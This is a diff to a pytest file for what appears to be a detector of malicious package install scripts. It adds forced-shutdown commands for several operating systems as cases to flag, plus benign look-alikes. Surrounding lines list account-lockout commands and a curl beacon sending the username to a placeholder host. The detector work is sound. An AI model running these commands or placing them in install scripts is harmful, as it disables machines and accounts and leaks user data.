@@ -59,6 +59,11 @@ def rules(art: Artifact) -> set[str]:
     ("net user %%u /active:no", "install-script/account-lockout"),
     ("for u in $(awk -F: '$3>=1000{print $1}' /etc/passwd); do usermod -L -e 1 \"$u\"; done", "install-script/account-lockout"),
     ("Get-LocalUser | Disable-LocalUser", "install-script/account-lockout"),
+    # blind set 29 (system shutdown): the build host or the developer's machine powered off
+    ("shutdown /s /f /t 0", "install-script/system-shutdown"),
+    ("sudo -n shutdown -h now || systemctl poweroff -i", "install-script/system-shutdown"),
+    ("powershell -c \"Stop-Computer -Force\"", "install-script/system-shutdown"),
+    ("osascript -e 'tell app \"System Events\" to shut down'", "install-script/system-shutdown"),
     ("profiles install -type configuration -path ./assets/defaults.mobileconfig", "install-script/config-profile"),
     ("open ./assets/search.mobileconfig", "install-script/config-profile"),
     ("curl -d u=$(whoami) https://hooks.example/c", "install-script/beacon"),
@@ -148,6 +153,17 @@ def test_reverse_shells_and_beacons_are_malicious_alone(command):
 ])
 def test_reading_accounts_is_not_locking_them(command):
     assert "install-script/account-lockout" not in rules(artifact({"install": command}))
+
+
+@pytest.mark.parametrize("command", [
+    "shutdown /a",  # (a pending shutdown cancelled)
+    "echo Please restart your terminal",
+    "node scripts/graceful-shutdown-test.js",
+    "systemctl status docker",
+])
+def test_naming_a_shutdown_is_not_one(command):
+    assert "install-script/system-shutdown" not in rules(artifact({"install": command}))
+
 
 
 def test_a_user_mode_service_is_no_kernel_driver():
